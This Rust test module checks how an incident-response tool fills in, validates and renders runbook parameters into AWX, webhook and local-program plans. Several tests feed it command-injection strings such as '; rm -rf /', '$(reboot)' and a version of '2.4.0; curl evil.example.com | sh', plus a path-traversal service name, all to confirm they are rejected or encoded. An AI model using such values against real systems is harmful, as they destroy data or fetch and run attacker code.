//! Filling in a runbook for a run: defaults, checks on every value, and the plans it renders.

use serde_json::json;

use super::*;
use crate::runbook::catalog::RunbookCatalog;
use crate::runbook::catalog::tests::shipped;
use crate::runbook::plan::AwxTemplateKind;

fn deployment(version: &str) -> Deployment {
    Deployment {
        service: "checkout".to_owned(),
        environment: "prod".to_owned(),
        version: version.to_owned(),
        commit: Some("4f2a9c1".to_owned()),
        url: Some(format!("https://ci.example.com/checkout/{version}")),
        pipeline: Some("deploy-checkout".to_owned()),
    }
}

fn context(service: &str, labels: &[(&str, &str)]) -> RunContext {
    RunContext {
        incident_id: IncidentId::from_seq(42),
        title: "High error rate on checkout".to_owned(),
        severity: Severity::Sev1,
        source: SourceKind::Alertmanager,
        problem_key: ProblemKey::new("{}:{alertname=\"HighErrorRate\"}").expect("a key"),
        service: Some(service.to_owned()),
        labels: labels.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect(),
        entities: vec!["checkout-7d9f".to_owned(), "checkout-a1b2".to_owned()],
        deployment_current: Some(deployment("2.4.1")),
        deployment_previous: Some(deployment("2.4.0")),
        params: BTreeMap::new(),
    }
}

fn given(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
}

/// The context with its parameters filled in, as the run would have them.
fn ready(runbook: &Runbook, ctx: RunContext, values: &[(&str, &str)]) -> RunContext {
    let params = runbook.params_with_defaults(&ctx, &given(values)).expect("valid parameters");
    ctx.with_params(params)
}

fn runbook<'a>(catalog: &'a RunbookCatalog, name: &str) -> &'a Runbook {
    catalog.get(name).unwrap_or_else(|| panic!("{name} is shipped"))
}

#[test]
fn defaults_are_filled_in_from_the_deployment_and_the_labels() {
    let catalog = shipped();
    let ctx = context("checkout", &[("instance", "web-3.internal:9100")]);
    #[rustfmt::skip]
    let cases = [
        ("rollback goes back to the previous version", "rollback",
            given(&[("version", "2.4.0"), ("strategy", "redeploy")])),
        ("restart targets the alert's instance without its port", "restart-service",
            given(&[("hosts", "web-3.internal"), ("action", "restart")])),
        ("scale-out has a literal default", "scale-out", given(&[("replicas", "6")])),
    ];
    for (why, name, expected) in cases {
        assert_eq!(runbook(&catalog, name).params_with_defaults(&ctx, &BTreeMap::new()), Ok(expected), "{why}");
    }
    let without_instance = context("checkout", &[]);
    assert_eq!(
        runbook(&catalog, "restart-service").params_with_defaults(&without_instance, &BTreeMap::new()),
        Ok(given(&[("hosts", "checkout"), ("action", "restart")])),
        "without an instance label restart falls back to the service"
    );
}

#[test]
fn given_values_win_over_defaults_and_are_checked_too() {
    let catalog = shipped();
    let rollback = runbook(&catalog, "rollback");
    let ctx = context("checkout", &[]);
    assert_eq!(
        rollback.params_with_defaults(&ctx, &given(&[("version", "v2.3"), ("strategy", "switch-blue-green")])),
        Ok(given(&[("version", "v2.3"), ("strategy", "switch-blue-green")]))
    );
    #[rustfmt::skip]
    let cases = [
        ("a value outside the choices", given(&[("strategy", "canary")]),
            "strategy must be one of redeploy, switch-blue-green; \"canary\" does not"),
        ("a parameter the runbook does not have", given(&[("force", "yes")]),
            "rollback has no parameter \"force\"; it takes version, strategy"),
        ("a value the pattern refuses", given(&[("version", "latest")]),
            "version must match ^v?[0-9]+(\\.[0-9]+){1,2}$; \"latest\" does not"),
    ];
    for (why, values, expected) in cases {
        let error = rollback.params_with_defaults(&ctx, &values).expect_err(why);
        assert_eq!(error.to_string(), expected, "{why}");
    }
}

#[test]
fn hostile_values_are_rejected_by_every_shipped_pattern() {
    let catalog = shipped();
    let hostile = ["; rm -rf /", "$(reboot)", "a\nb", "`reboot`", "1; reboot", "web-1 && reboot", "2\n", "-rf", ""];
    let mut checked = 0;
    for runbook in catalog.runbooks() {
        for param in runbook.params() {
            for value in hostile {
                let error = runbook.check_param(&param.name, value);
                assert!(
                    matches!(&error, Err(ParamError::Rejected { name, .. }) if *name == param.name),
                    "{}: {} must refuse {value:?}, got {error:?}",
                    runbook.name(),
                    param.name
                );
                checked += 1;
            }
        }
    }
    assert_eq!(checked, 7 * hostile.len(), "every parameter of the shipped runbooks was tried");
}

#[test]
fn a_hostile_value_from_the_incident_is_rejected_like_a_typed_one() {
    let catalog = shipped();
    let mut ctx = context("checkout", &[]);
    ctx.deployment_previous = Some(deployment("2.4.0; curl evil.example.com | sh"));
    let error = runbook(&catalog, "rollback").params_with_defaults(&ctx, &BTreeMap::new()).unwrap_err();
    assert_eq!(error.param(), Some("version"), "{error}");

    let db = context("db", &[("alertname", "DiskFull"), ("instance", "$(reboot)")]);
    let error = runbook(&catalog, "cleanup-disk").params_with_defaults(&db, &BTreeMap::new()).unwrap_err();
    assert_eq!(error.to_string(), "host must match ^[A-Za-z0-9][A-Za-z0-9.-]{0,252}$; \"$(reboot)\" does not");
}

#[test]
fn execution_checks_the_parameters_again_so_nothing_unchecked_reaches_an_executor() {
    let catalog = shipped();
    let cleanup = runbook(&catalog, "cleanup-disk");
    let ctx = context("db", &[]).with_params(given(&[("host", "db-1; rm -rf /"), ("keep_days", "7")]));
    let error = cleanup.execution(&ctx).unwrap_err();
    assert!(matches!(&error, RenderError::Param(e) if e.param() == Some("host")), "{error:?}");

    let missing = context("db", &[]).with_params(given(&[("host", "db-1")]));
    assert_eq!(cleanup.execution(&missing).unwrap_err().to_string(), "keep_days is required: must match ^[1-9][0-9]?$");
}

#[test]
fn rollback_is_refused_without_a_previous_deployment() {
    let catalog = shipped();
    let rollback = runbook(&catalog, "rollback");
    let mut ctx = context("checkout", &[]);
    ctx.deployment_previous = None;
    let expected = "no previous deployment of checkout is recorded; rollback needs one";
    assert_eq!(rollback.params_with_defaults(&ctx, &BTreeMap::new()).unwrap_err().to_string(), expected);
    assert_eq!(rollback.execution(&ctx).unwrap_err().to_string(), expected);
    assert_eq!(rollback.confirm_text(&ctx).unwrap_err().to_string(), expected);
    assert_eq!(
        rollback.params_with_defaults(&ctx, &given(&[("version", "2.3.0")])).unwrap_err().to_string(),
        expected,
        "a version typed by hand does not make a rollback without history safe"
    );
}

#[test]
fn rollback_renders_an_awx_job_plan() {
    let catalog = shipped();
    let rollback = runbook(&catalog, "rollback");
    let ctx = ready(rollback, context("checkout", &[]), &[]);
    let execution = rollback.execution(&ctx).expect("a plan");
    assert_eq!(
        execution,
        Execution {
            runbook: "rollback".to_owned(),
            plan: Plan::Awx(AwxPlan {
                base_url: "https://awx.example.com".to_owned(),
                api_path: "/api/v2/".to_owned(),
                token: Secret::Env("AWX_TOKEN".to_owned()),
                kind: AwxTemplateKind::Job,
                template_id: 42,
                extra_vars: json!({
                    "incident_id": "INC-42",
                    "service": "checkout",
                    "environment": "prod",
                    "version": "2.4.0",
                    "from_version": "2.4.1",
                    "strategy": "redeploy",
                }),
                limit: None,
            }),
            timeout: std::time::Duration::from_secs(15 * 60),
        }
    );
    assert_eq!(rollback.confirm_text(&ctx), Ok("Roll back checkout from 2.4.1 to 2.4.0 (redeploy)?".to_owned()));
}

#[test]
fn restart_renders_an_awx_workflow_plan_with_a_limit() {
    let catalog = shipped();
    let restart = runbook(&catalog, "restart-service");
    let ctx = ready(restart, context("checkout", &[("instance", "web-3:9100")]), &[("action", "reload")]);
    let Plan::Awx(plan) = restart.execution(&ctx).expect("a plan").plan else { panic!("restart runs on AWX") };
    assert_eq!((plan.kind, plan.template_id), (AwxTemplateKind::Workflow, 43));
    assert_eq!(plan.limit.as_deref(), Some("web-3"));
    assert_eq!(plan.extra_vars, json!({"incident_id": "INC-42", "service": "checkout", "action": "reload"}));
    assert_eq!(restart.confirm_text(&ctx), Ok("Reload checkout on web-3?".to_owned()));
}

#[test]
fn scale_out_renders_an_http_plan_with_a_typed_body_and_secret_headers() {
    let catalog = shipped();
    let scale = runbook(&catalog, "scale-out");
    let ctx = ready(scale, context("checkout", &[]), &[("replicas", "12")]);
    assert_eq!(
        scale.execution(&ctx).expect("a plan").plan,
        Plan::Http(HttpPlan {
            method: "POST".to_owned(),
            url: "https://autoscaler.example.com/api/v1/services/checkout/scale".to_owned(),
            headers: vec![
                ("Authorization".to_owned(), Secret::Env("AUTOSCALER_TOKEN".to_owned())),
                ("X-Warroom-Incident".to_owned(), Secret::Literal("INC-42".to_owned())),
            ],
            body: Some(json!({
                "replicas": 12,
                "reason": "INC-42: High error rate on checkout",
                "requested_by": "warroom",
            })),
            expected_status: vec![200, 202],
        })
    );
}

#[test]
fn a_service_name_cannot_change_the_webhook_path() {
    let catalog = shipped();
    let scale = runbook(&catalog, "scale-out");
    let ctx = ready(scale, context("../admin?x=1", &[]), &[]);
    let Plan::Http(plan) = scale.execution(&ctx).expect("a plan").plan else { panic!("scale-out is a webhook") };
    assert_eq!(plan.url, "https://autoscaler.example.com/api/v1/services/..%2Fadmin%3Fx%3D1/scale");
    let ctx = ready(scale, context("..", &[]), &[]);
    let error = scale.execution(&ctx).unwrap_err();
    assert!(error.to_string().starts_with("executor.url: "), "{error}");
}

#[test]
fn cleanup_renders_a_local_plan_with_one_argument_per_value() {
    let catalog = shipped();
    let cleanup = runbook(&catalog, "cleanup-disk");
    let ctx = ready(cleanup, context("db", &[("alertname", "DiskFull"), ("instance", "db-1.internal:9100")]), &[]);
    assert_eq!(
        cleanup.execution(&ctx).expect("a plan").plan,
        Plan::Local(LocalPlan {
            program: "/usr/local/bin/warroom-cleanup-disk".to_owned(),
            args: ["--host", "db-1.internal", "--keep-days", "7", "--incident", "INC-42"].map(str::to_owned).to_vec(),
            dir: Some("/var/lib/warroom".to_owned()),
        })
    );
}

#[test]
fn a_variable_the_incident_lacks_is_an_error_naming_it() {
    let catalog = shipped();
    let cleanup = runbook(&catalog, "cleanup-disk");
    let error = cleanup.params_with_defaults(&context("db", &[]), &BTreeMap::new()).unwrap_err();
    assert_eq!(
        error.to_string(),
        "the default of host could not be filled in: params.host.default: `labels.instance` is not known for this incident"
    );

    let scale = runbook(&catalog, "scale-out");
    let mut ctx = context("checkout", &[]).with_params(given(&[("replicas", "3")]));
    ctx.service = None;
    assert_eq!(
        scale.execution(&ctx).unwrap_err(),
        RenderError::Template {
            field: "executor.url".to_owned(),
            message: "`service` is not known for this incident".to_owned()
        }
    );
}

#[test]
fn a_runbook_without_confirm_asks_with_its_title() {
    let text = r#"
        name = "page"
        title = "Page the database team"
        [button]
        label = "Page DBAs"
        [executor]
        kind = "local"
        program = "/usr/local/bin/page"
        args = ["--incident", "{{ incident.id }}"]
        [allowed]
        on_call = true
    "#;
    let catalog = RunbookCatalog::from_sources(&[("page.toml".into(), text.to_owned())], &|_| None).expect("valid");
    let page = runbook(&catalog, "page");
    assert_eq!(page.confirm_text(&context("db", &[])), Ok("Run “Page the database team” for INC-42?".to_owned()));
}

#[test]
fn a_run_context_takes_the_incident_and_its_environment_label() {
    let ctx = context("checkout", &[("environment", "staging")]);
    assert_eq!(ctx.environment(), Some("staging"));
    let ctx = context("checkout", &[("env", "prod"), ("environment", "staging")]);
    assert_eq!(ctx.environment(), Some("prod"), "`env` wins over `environment`");
}
